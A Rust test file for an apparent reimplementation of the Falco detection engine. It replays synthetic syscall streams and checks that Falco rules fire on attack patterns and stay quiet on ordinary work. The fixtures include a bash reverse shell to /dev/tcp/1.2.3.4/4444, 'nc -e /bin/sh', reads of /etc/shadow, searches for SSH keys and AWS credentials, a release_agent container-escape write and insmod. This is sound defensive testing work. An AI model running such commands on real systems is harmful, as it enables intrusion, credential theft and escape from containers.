//! Replayed event streams (in the tracer's JSON format) against the
//! unmodified Falco stable rules: each trigger of the event-generator table
//! that can work under kiltx produces exactly its rule, ordinary work produces
//! nothing, `rule_matching` first vs all, and the alert format.
use kiltx_rules::{load, Engine, Matching, Options, Priority};
use serde_json::{json, Value};
use std::path::PathBuf;

fn peer(rel: &str) -> String {
    let p = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../shared/peer/falco")
        .join(rel);
    std::fs::read_to_string(&p).unwrap_or_else(|e| {
        panic!(
            "{}: {e} (the peer data must be beside the clone)",
            p.display()
        )
    })
}

fn engine(matching: Matching) -> Engine {
    let rs = load(&[("falco_rules.yaml".into(), peer("rules/falco_rules.yaml"))]).expect("loads");
    Engine::new(
        rs,
        Options {
            matching,
            min_priority: Priority::Debug,
            hostname: "task-host".into(),
            hostname_fixed: false,
        },
    )
}

/// Builds events as `kiltx-tracer` writes them, for one container.
struct Stream {
    seq: i64,
    /// ms since 2026-11-30T00:00:00Z
    ms: i64,
    container: Option<&'static str>,
    lines: Vec<String>,
    /// pid -> (ppid, comm, exe)
    procs: std::collections::HashMap<i64, (i64, String, String)>,
}

impl Stream {
    fn new(container: Option<&'static str>) -> Stream {
        let mut s = Stream {
            seq: 0,
            ms: 0,
            container,
            lines: Vec::new(),
            procs: Default::default(),
        };
        // the container's entrypoint, started by the tracer (pid 1, never reported)
        s.procs.insert(
            10,
            (1, "kiltx-tracer".into(), "/kiltx/bin/kiltx-tracer".into()),
        );
        s
    }

    fn ts(&self) -> String {
        let (s, ms) = (self.ms / 1000, self.ms % 1000);
        format!(
            "2026-11-30T{:02}:{:02}:{:02}.{:03}000123Z",
            s / 3600,
            s / 60 % 60,
            s % 60,
            ms
        )
    }

    fn wait(&mut self, ms: i64) {
        self.ms += ms;
    }

    fn push(
        &mut self,
        kind: &str,
        pid: i64,
        syscall: &str,
        args: Value,
        result: Option<i64>,
        extra: Value,
    ) {
        self.seq += 1;
        self.ms += 1;
        let (ppid, comm, exe) = self.procs.get(&pid).cloned().expect("known pid");
        let mut e = json!({
            "ts": self.ts(), "seq": self.seq, "type": kind, "container": self.container,
            "pid": pid, "tid": pid, "ppid": ppid, "uid": 0, "gid": 0, "euid": 0, "egid": 0,
            "comm": comm, "exe": exe, "syscall": syscall, "abi": "x86_64", "args": args,
        });
        let o = e.as_object_mut().unwrap();
        match result {
            Some(r) => {
                o.insert("result_captured".into(), json!(true));
                o.insert("result".into(), json!(r));
                if r < 0 {
                    let name = match -r {
                        1 => "EPERM",
                        2 => "ENOENT",
                        13 => "EACCES",
                        115 => "EINPROGRESS",
                        _ => "EIO",
                    };
                    o.insert("errno".into(), json!(name));
                }
            }
            None => {
                o.insert("result_captured".into(), json!(false));
            }
        }
        if let Value::Object(x) = extra {
            o.extend(x);
        }
        self.lines.push(e.to_string());
    }

    fn fork(&mut self, pid: i64, child: i64) {
        let p = self.procs[&pid].clone();
        self.procs.insert(child, (pid, p.1, p.2));
        self.push(
            "process",
            pid,
            "clone",
            json!({"child_pid": child, "child_tid": child, "thread": false, "flags": ["CLONE_CHILD_CLEARTID","CLONE_CHILD_SETTID"]}),
            Some(child),
            json!({}),
        );
    }

    /// A successful exec: `comm` and `exe` are the new program's.
    fn exec(&mut self, pid: i64, exe: &str, argv: &[&str], args_extra: Value) {
        let comm: String = argv[0]
            .rsplit('/')
            .next()
            .unwrap()
            .chars()
            .take(15)
            .collect();
        let ppid = self.procs[&pid].0;
        self.procs.insert(pid, (ppid, comm, exe.to_string()));
        let mut args = json!({"path": exe, "abspath": exe, "argv": argv});
        if let Value::Object(x) = args_extra {
            args.as_object_mut().unwrap().extend(x);
        }
        self.push("syscall", pid, "execve", args, Some(0), json!({}));
    }

    fn spawn(&mut self, parent: i64, child: i64, exe: &str, argv: &[&str]) {
        self.fork(parent, child);
        self.exec(child, exe, argv, json!({}));
    }

    fn exit(&mut self, pid: i64) {
        self.push(
            "process",
            pid,
            "exit",
            json!({"thread": false, "code": 0}),
            Some(0),
            json!({}),
        );
        self.procs.remove(&pid);
    }

    fn open(&mut self, pid: i64, path: &str, abspath: &str, flags: &[&str], result: i64) {
        self.push(
            "syscall",
            pid,
            "openat",
            json!({"dirfd": "AT_FDCWD", "path": path, "abspath": abspath, "flags": flags}),
            Some(result),
            json!({}),
        );
    }

    fn call(&mut self, pid: i64, syscall: &str, args: Value, result: Option<i64>) {
        self.push("syscall", pid, syscall, args, result, json!({}));
    }
}

/// (rule, priority) of every alert for the stream.
fn run(e: &mut Engine, s: &Stream) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for l in &s.lines {
        e.process(l.as_bytes(), &mut out);
    }
    String::from_utf8(out)
        .unwrap()
        .lines()
        .map(|l| {
            let v: Value = serde_json::from_str(l).expect("alerts are JSON");
            (
                v["rule"].as_str().unwrap().to_string(),
                v["priority"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

fn expect_only(s: &Stream, rule: &str, priority: &str) {
    let got = run(&mut engine(Matching::First), s);
    assert_eq!(
        got,
        [(rule.to_string(), priority.to_string())],
        "stream:\n{}",
        s.lines.join("\n")
    );
}

fn app() -> Stream {
    let mut s = Stream::new(Some("app"));
    s.exec(
        10,
        "/bin/dash",
        &["/bin/sh", "-c", "/entrypoint.sh"],
        json!({}),
    );
    s
}

#[test]
fn read_sensitive_file_untrusted() {
    let mut s = app();
    s.spawn(10, 11, "/usr/bin/cat", &["cat", "/etc/shadow"]);
    s.open(
        11,
        "/etc/shadow",
        "/etc/shadow",
        &["O_RDONLY", "O_CLOEXEC"],
        3,
    );
    expect_only(&s, "Read sensitive file untrusted", "Warning");
}

#[test]
fn read_sensitive_file_trusted_after_startup() {
    let mut s = app();
    s.spawn(10, 11, "/usr/bin/python3.11", &["/tmp/httpd", "-c", "..."]);
    // comm is the symlink's name
    s.procs.get_mut(&11).unwrap().1 = "httpd".into();
    s.wait(6000);
    s.open(
        11,
        "/etc/shadow",
        "/etc/shadow",
        &["O_RDONLY", "O_CLOEXEC"],
        3,
    );
    expect_only(&s, "Read sensitive file trusted after startup", "Warning");
    // within its first 5 s, a server reading /etc/shadow is "untrusted"
    let mut s = app();
    s.spawn(10, 11, "/usr/sbin/nginx", &["nginx"]);
    s.open(11, "/etc/shadow", "/etc/shadow", &["O_RDONLY"], 3);
    expect_only(&s, "Read sensitive file untrusted", "Warning");
}

#[test]
fn directory_traversal_first_vs_all() {
    let mut s = app();
    s.spawn(10, 11, "/usr/bin/xargs", &["xargs", "cat"]);
    s.spawn(
        11,
        12,
        "/usr/bin/cat",
        &["cat", "/etc/../etc/../etc/shadow"],
    );
    s.open(
        12,
        "/etc/../etc/../etc/shadow",
        "/etc/shadow",
        &["O_RDONLY", "O_CLOEXEC"],
        3,
    );
    expect_only(&s, "Directory traversal monitored file read", "Warning");
    let all = run(&mut engine(Matching::All), &s);
    assert_eq!(
        all.iter().map(|(r, _)| r.as_str()).collect::<Vec<_>>(),
        [
            "Directory traversal monitored file read",
            "Read sensitive file untrusted"
        ]
    );
    // a failed attempt (open_file_failed) is a traversal all the same
    let mut s = app();
    s.spawn(10, 11, "/usr/bin/xargs", &["xargs", "cat"]);
    s.spawn(
        11,
        12,
        "/usr/bin/cat",
        &["cat", "/etc/../etc/../etc/shadow"],
    );
    s.open(
        12,
        "/etc/../etc/../etc/shadow",
        "/etc/shadow",
        &["O_RDONLY"],
        -13,
    );
    expect_only(&s, "Directory traversal monitored file read", "Warning");
}

#[test]
fn run_shell_untrusted() {
    let mut s = app();
    s.spawn(10, 11, "/usr/sbin/nginx", &["nginx"]);
    s.spawn(11, 12, "/bin/dash", &["sh", "-c", "ls > /dev/null"]);
    expect_only(&s, "Run shell untrusted", "Notice");
}

#[test]
fn system_user_interactive_needs_the_user_name() {
    let mut s = app();
    s.fork(10, 11);
    s.exec(
        11,
        "/bin/login",
        &["/bin/login"],
        json!({"user": "daemon", "group": "daemon"}),
    );
    expect_only(&s, "System user interactive", "Informational");
}

#[test]
fn terminal_shell_in_container() {
    let mut s = Stream::new(Some("app"));
    s.exec(10, "/bin/bash", &["bash"], json!({"tty": 34816}));
    expect_only(&s, "Terminal shell in container", "Notice");
}

#[test]
fn exec_triggers() {
    for (argv, exe, rule, prio) in [
        (
            &["nc", "-e", "/bin/sh", "127.0.0.1", "9"][..],
            "/usr/bin/nc",
            "Netcat Remote Code Execution in Container",
            "Warning",
        ),
        (
            &["find", "/tmp", "-maxdepth", "1", "-iname", "id_rsa"][..],
            "/usr/bin/find",
            "Search Private Keys or Passwords",
            "Warning",
        ),
        (
            &["shred", "-u", "/tmp/x"][..],
            "/usr/bin/shred",
            "Remove Bulk Data from Disk",
            "Warning",
        ),
        (
            &[
                "find",
                "/tmp",
                "-maxdepth",
                "1",
                "-iname",
                ".aws/credentials",
            ][..],
            "/usr/bin/find",
            "Find AWS Credentials",
            "Warning",
        ),
        (
            &["/dev/shm/x.sh"][..],
            "/dev/shm/x.sh",
            "Execution from /dev/shm",
            "Warning",
        ),
        (
            &["x"][..],
            "/memfd:x (deleted)",
            "Fileless execution via memfd_create",
            "Critical",
        ),
    ] {
        let mut s = app();
        s.spawn(10, 11, exe, argv);
        expect_only(&s, rule, prio);
    }
}

#[test]
fn drop_and_execute_new_binary() {
    let mut s = app();
    s.spawn(
        10,
        11,
        "/usr/bin/cp",
        &["cp", "/bin/ls", "/usr/local/bin/dropped"],
    );
    s.open(
        11,
        "/usr/local/bin/dropped",
        "/usr/local/bin/dropped",
        &["O_WRONLY", "O_CREAT", "O_TRUNC"],
        4,
    );
    s.exit(11);
    s.spawn(
        10,
        12,
        "/usr/local/bin/dropped",
        &["/usr/local/bin/dropped"],
    );
    expect_only(&s, "Drop and execute new binary in container", "Critical");
}

#[test]
fn file_triggers() {
    let mut s = app();
    s.open(
        10,
        "/var/log/syslog",
        "/var/log/syslog",
        &["O_WRONLY", "O_CREAT", "O_TRUNC"],
        3,
    );
    expect_only(&s, "Clear Log Activities", "Warning");
    let mut s = app();
    s.spawn(
        10,
        11,
        "/usr/bin/ln",
        &["ln", "-s", "/etc", "/tmp/etc_link"],
    );
    s.call(11, "symlinkat", json!({"target": "/etc", "newdirfd": "AT_FDCWD", "linkpath": "/tmp/etc_link", "abspath": "/tmp/etc_link"}), Some(0));
    expect_only(&s, "Create Symlink Over Sensitive Files", "Warning");
    let mut s = app();
    s.spawn(
        10,
        11,
        "/usr/bin/ln",
        &["ln", "/etc/shadow", "/tmp/shadow_link"],
    );
    s.call(11, "linkat", json!({"olddirfd": "AT_FDCWD", "oldpath": "/etc/shadow", "oldabspath": "/etc/shadow", "newdirfd": "AT_FDCWD", "newpath": "/tmp/shadow_link", "newabspath": "/tmp/shadow_link", "flags": []}), Some(-1));
    expect_only(&s, "Create Hardlink Over Sensitive Files", "Warning");
}

#[test]
fn ptrace_triggers() {
    let mut s = app();
    s.spawn(10, 11, "/usr/bin/python3", &["python3", "x.py"]);
    s.call(
        11,
        "ptrace",
        json!({"request": "PTRACE_TRACEME", "pid": 0}),
        Some(-1),
    );
    expect_only(&s, "PTRACE anti-debug attempt", "Notice");
    let mut s = app();
    s.spawn(10, 11, "/usr/bin/python3", &["python3", "x.py"]);
    s.call(
        11,
        "ptrace",
        json!({"request": "PTRACE_ATTACH", "pid": 42}),
        Some(-1),
    );
    expect_only(&s, "PTRACE attached to process", "Warning");
}

#[test]
fn network_triggers_replayed() {
    // only loopback may be contacted here: the SSH connection is replayed
    let mut s = app();
    s.spawn(
        10,
        11,
        "/usr/bin/ssh",
        &["ssh", "user@example.com", "-p", "443"],
    );
    s.call(11, "connect", json!({"fd": 3, "addr": {"family": "inet", "address": "93.184.216.34", "port": 443}, "sock": {"family": "inet", "type": "SOCK_STREAM", "l4proto": "tcp"}}), Some(-115));
    expect_only(&s, "Disallowed SSH Connection Non Standard Port", "Notice");
    // the same to a private address is not outbound
    let mut s = app();
    s.spawn(
        10,
        11,
        "/usr/bin/ssh",
        &["ssh", "user@10.1.2.3", "-p", "443"],
    );
    s.call(11, "connect", json!({"fd": 3, "addr": {"family": "inet", "address": "10.1.2.3", "port": 443}, "sock": {"family": "inet", "type": "SOCK_STREAM", "l4proto": "tcp"}}), Some(0));
    assert!(run(&mut engine(Matching::First), &s).is_empty());
    let mut s = app();
    s.spawn(10, 11, "/usr/bin/python3", &["python3", "x.py"]);
    s.call(
        11,
        "socket",
        json!({"domain": "AF_PACKET", "type": "SOCK_RAW", "protocol": 768}),
        Some(3),
    );
    expect_only(&s, "Packet socket created in container", "Notice");
    let mut s = app();
    s.spawn(
        10,
        11,
        "/bin/bash",
        &["bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"],
    );
    s.call(
        11,
        "dup2",
        json!({"oldfd": 3, "newfd": 0, "flags": [], "abspath": "socket:[1234]", "fdtype": "ipv4", "sock": {"family": "inet", "type": "SOCK_STREAM", "l4proto": "tcp"}}),
        Some(0),
    );
    expect_only(
        &s,
        "Redirect STDOUT/STDIN to Network Connection in Container",
        "Notice",
    );
}

#[test]
fn capability_rules_fire_where_the_capability_is_granted() {
    // on Fargate no task gets CAP_SYS_MODULE or CAP_SYS_ADMIN; on EC2 one can
    let mut s = app();
    s.fork(10, 11);
    s.exec(
        11,
        "/usr/sbin/insmod",
        &["insmod", "x.ko"],
        json!({"cap_effective": ["CAP_SYS_MODULE"], "loginuid": -1}),
    );
    s.call(
        11,
        "finit_module",
        json!({"fd": 3, "params": "", "flags": []}),
        Some(-1),
    );
    expect_only(&s, "Linux Kernel Module Injection Detected", "Warning");
    let mut s = app();
    s.fork(10, 11);
    s.exec(
        11,
        "/bin/dash",
        &["sh", "-c", "echo x > release_agent"],
        json!({"cap_effective": ["CAP_DAC_OVERRIDE", "CAP_SYS_ADMIN"]}),
    );
    s.open(
        11,
        "release_agent",
        "/sys/fs/cgroup/release_agent",
        &["O_WRONLY", "O_CREAT", "O_TRUNC"],
        3,
    );
    expect_only(
        &s,
        "Detect release_agent File Container Escapes",
        "Critical",
    );
    // without the capability (what a Fargate task has), nothing
    let mut s = app();
    s.fork(10, 11);
    s.exec(
        11,
        "/usr/sbin/insmod",
        &["insmod", "x.ko"],
        json!({"cap_effective": ["CAP_CHOWN", "CAP_SYS_PTRACE"]}),
    );
    s.call(
        11,
        "finit_module",
        json!({"fd": 3, "params": "", "flags": []}),
        Some(-1),
    );
    assert!(run(&mut engine(Matching::First), &s).is_empty());
}

#[test]
fn the_meta_event_gives_container_fields_and_the_hostname() {
    let rules = "- rule: r\n  desc: d\n  condition: evt.type = openat and container.image.repository = shop/web\n  output: \"%container.id %container.name %container.image %container.image.tag\"\n  priority: INFO\n";
    let rs = load(&[("r.yaml".into(), rules.into())]).unwrap();
    let mut e = Engine::new(
        rs,
        Options {
            hostname: "sidecar".into(),
            ..Options::default()
        },
    );
    let mut s = Stream::new(Some("app"));
    s.seq += 1;
    s.lines.push(json!({"ts": s.ts(), "seq": 1, "type": "meta", "container": "app", "args": {
        "hostname": "ip-10-0-1-23.eu-west-1.compute.internal",
        "ecs": {"task_arn": "arn:aws:ecs:eu-west-1:123456789012:task/prod/0123abcd", "cluster": "prod",
                "container_id": "0123abcd-1234567890", "container_name": "app",
                "image": "shop/web:1.4", "image_repository": "shop/web", "image_tag": "1.4",
                "image_digest": "sha256:00"}}}).to_string());
    s.open(10, "/tmp/x", "/tmp/x", &["O_WRONLY", "O_CREAT"], 3);
    let mut out = Vec::new();
    for l in &s.lines {
        e.process(l.as_bytes(), &mut out);
    }
    let v: Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(v["hostname"], "ip-10-0-1-23.eu-west-1.compute.internal");
    assert_eq!(v["output_fields"]["container.id"], "0123abcd-1234567890");
    assert_eq!(v["output_fields"]["container.image.tag"], "1.4");
    assert_eq!(v["output_fields"]["container.name"], "app");
}

#[test]
fn a_failed_exec_is_judged_with_the_callers_process() {
    // nginx trying to run a shell that does not exist: the event is nginx's
    let mut s = app();
    s.spawn(10, 11, "/usr/sbin/nginx", &["nginx"]);
    s.call(
        11,
        "execve",
        json!({"path": "/bin/sh", "abspath": "/bin/sh", "argv": ["sh", "-c", "id"]}),
        Some(-2),
    );
    assert!(run(&mut engine(Matching::First), &s).is_empty());
}

#[test]
fn outside_a_container_the_container_rules_stay_quiet() {
    let mut s = Stream::new(None);
    s.exec(10, "/bin/dash", &["sh"], json!({}));
    s.spawn(
        10,
        11,
        "/usr/bin/nc",
        &["nc", "-e", "/bin/sh", "127.0.0.1", "9"],
    );
    assert!(run(&mut engine(Matching::First), &s).is_empty());
}

#[test]
fn ordinary_work_is_quiet() {
    let mut s = app();
    for i in 0..50 {
        let pid = 100 + i;
        s.spawn(10, pid, "/usr/bin/cat", &["cat", "/etc/hostname"]);
        s.open(pid, "/etc/hostname", "/etc/hostname", &["O_RDONLY"], 3);
        s.open(
            pid,
            "/tmp/out.txt",
            "/tmp/out.txt",
            &["O_WRONLY", "O_CREAT", "O_TRUNC"],
            4,
        );
        s.exit(pid);
    }
    s.spawn(
        10,
        200,
        "/usr/bin/python3.11",
        &["python3", "-m", "http.server", "8000"],
    );
    s.call(
        200,
        "bind",
        json!({"fd": 3, "addr": {"family": "inet", "address": "0.0.0.0", "port": 8000}}),
        Some(0),
    );
    s.call(200, "listen", json!({"fd": 3, "backlog": 5}), Some(0));
    s.call(200, "accept4", json!({"fd": 3, "peer": {"family": "inet", "address": "127.0.0.1", "port": 40000}, "flags": ["SOCK_CLOEXEC"]}), Some(4));
    s.spawn(
        10,
        300,
        "/usr/bin/curl",
        &["curl", "http://127.0.0.1:8000/"],
    );
    s.call(300, "connect", json!({"fd": 3, "addr": {"family": "inet", "address": "127.0.0.1", "port": 8000}, "l4proto": "tcp"}), Some(0));
    let mut e = engine(Matching::All);
    assert!(run(&mut e, &s).is_empty());
    // exited processes left the table: the entrypoint, python and curl remain
    assert_eq!(e.processes(), 3);
}

#[test]
fn alerts_are_falcos_json() {
    let mut s = app();
    s.spawn(10, 11, "/usr/bin/cat", &["cat", "/etc/shadow"]);
    s.open(11, "/etc/shadow", "/etc/shadow", &["O_RDONLY"], 3);
    let mut e = engine(Matching::First);
    let mut out = Vec::new();
    for l in &s.lines {
        e.process(l.as_bytes(), &mut out);
    }
    let v: Value = serde_json::from_slice(&out).unwrap();
    let keys: Vec<&str> = v.as_object().unwrap().keys().map(String::as_str).collect();
    assert_eq!(
        keys,
        [
            "hostname",
            "output",
            "output_fields",
            "priority",
            "rule",
            "source",
            "tags",
            "time"
        ]
    );
    assert_eq!(v["hostname"], "task-host");
    assert_eq!(v["priority"], "Warning");
    assert_eq!(v["source"], "syscall");
    let ts = s
        .lines
        .last()
        .map(|l| serde_json::from_str::<Value>(l).unwrap()["ts"].clone())
        .unwrap();
    assert_eq!(v["time"], ts);
    let f = &v["output_fields"];
    let ns = f["evt.time"].as_i64().expect("evt.time in ns");
    assert_eq!(ns % 1_000_000_000, 4_000_123);
    assert_eq!(f["fd.name"], "/etc/shadow");
    assert_eq!(f["proc.name"], "cat");
    assert_eq!(f["proc.pname"], "sh");
    assert_eq!(f["proc.cmdline"], "cat /etc/shadow");
    assert_eq!(f["user.uid"], 0);
    assert_eq!(f["user.loginuid"], Value::Null);
    assert_eq!(f["evt.type"], "openat");
    let out = v["output"].as_str().unwrap();
    assert!(out.starts_with("00:00:00.004000123: Warning Sensitive file opened for reading by non-trusted program | file=/etc/shadow "), "{out}");
    assert!(out.contains("user_loginuid=<NA>"), "{out}");
    assert!(v["tags"].as_array().unwrap().iter().any(|t| t == "T1555"));
    assert_eq!(e.stats.alerts, 1);
}

#[test]
fn minimum_priority_leaves_less_severe_rules_out() {
    let mut s = app();
    s.spawn(10, 11, "/usr/bin/python3", &["python3", "x.py"]);
    s.call(
        11,
        "ptrace",
        json!({"request": "PTRACE_TRACEME", "pid": 0}),
        Some(-1),
    );
    let rs = load(&[("falco_rules.yaml".into(), peer("rules/falco_rules.yaml"))]).unwrap();
    let mut e = Engine::new(
        rs,
        Options {
            min_priority: Priority::Warning,
            ..Options::default()
        },
    );
    assert!(run(&mut e, &s).is_empty());
}
